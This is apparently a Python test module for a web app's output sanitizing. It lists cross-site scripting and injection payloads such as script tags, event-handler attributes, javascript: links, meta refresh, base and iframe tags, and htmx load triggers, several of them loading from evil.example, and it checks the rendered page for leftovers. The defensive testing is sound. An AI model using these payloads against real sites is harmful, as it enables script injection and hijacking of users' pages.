"""What is written to get a script to run, and how a page looks on which none can."""

OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script src=https://evil.example/x.js></script>',
    "'\u0301 onfocus=alert(1) autofocus x='",
    '"\u0301 onfocus=alert(1) autofocus x="',
    "[x](javascript:alert(1)) ![y](https://evil.example/pixel.png) <https://evil.example/>",
    "[1]: https://evil.example/\n\n[1]",
    "<a hx-get=https://evil.example/ hx-trigger=load>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<iframe src=javascript:alert(1)></iframe><base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css'</style><link rel=stylesheet href=https://evil.example/x.css>",
    "</textarea></template></script><script>alert(1)</script>",
    "{{{html}}} {{#x}} ${alert(1)} <%= 1 %>",
    "\u202egnp.exe\u2066 \u0007\u001b[31m",
]


def harmless(page):
    """Nothing in the page but what its templates and the allow-list write."""
    found = page.evaluate(
        """() => [...document.querySelectorAll(".words *, bdi *, .page *, .sources *, .composer *, .problem *, script, style, iframe, base, object, embed, img, meta[http-equiv], link")]
          .filter((one) => [...one.attributes].some((attribute) => /^on/.test(attribute.name))
            || one.closest(".words, bdi, .page") && [...one.attributes].some((attribute) => /^(hx-|data-hx|style|src$|id$)/.test(attribute.name))
              && one.id !== "passage"
            || (one.matches("script, link") && !/^[/](assets|docs)/.test(one.getAttribute("src") ?? one.getAttribute("href") ?? ""))
            || one.matches("style, iframe, base, object, embed, img, meta[http-equiv]")
            || (one.matches("a") && !/^(https?:|mailto:)/.test(one.href)))
          .map((one) => one.outerHTML.slice(0, 200))"""
    )
    assert not found, found
